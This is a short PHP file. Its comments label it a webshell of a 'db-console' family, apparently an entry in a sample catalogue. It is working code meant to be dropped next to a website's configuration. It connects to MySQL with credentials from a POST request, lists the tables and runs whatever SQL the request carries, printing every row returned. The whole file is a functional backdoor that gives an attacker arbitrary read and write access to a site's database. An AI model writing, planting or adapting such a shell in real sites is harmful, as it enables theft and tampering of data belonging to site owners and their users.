<?php
// Family: webshell/db-console
// Style: one-page database console dropped next to the site's configuration
// Trait: connects with credentials from the form, lists the tables and runs whatever SQL the request carries, printing every row
$h = isset($_POST['host']) ? $_POST['host'] : 'localhost';
$link = mysqli_connect($h, $_POST['user'], $_POST['pass']);
if (!$link) { die('no connection'); }
if (!empty($_POST['db'])) { mysqli_select_db($link, $_POST['db']); }
$res = mysqli_query($link, $_POST['sql']);
$tables = mysqli_query($link, 'SHOW TABLES');
while ($res && ($row = mysqli_fetch_row($res))) {
	echo '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', $row)) . '</td></tr>';
}
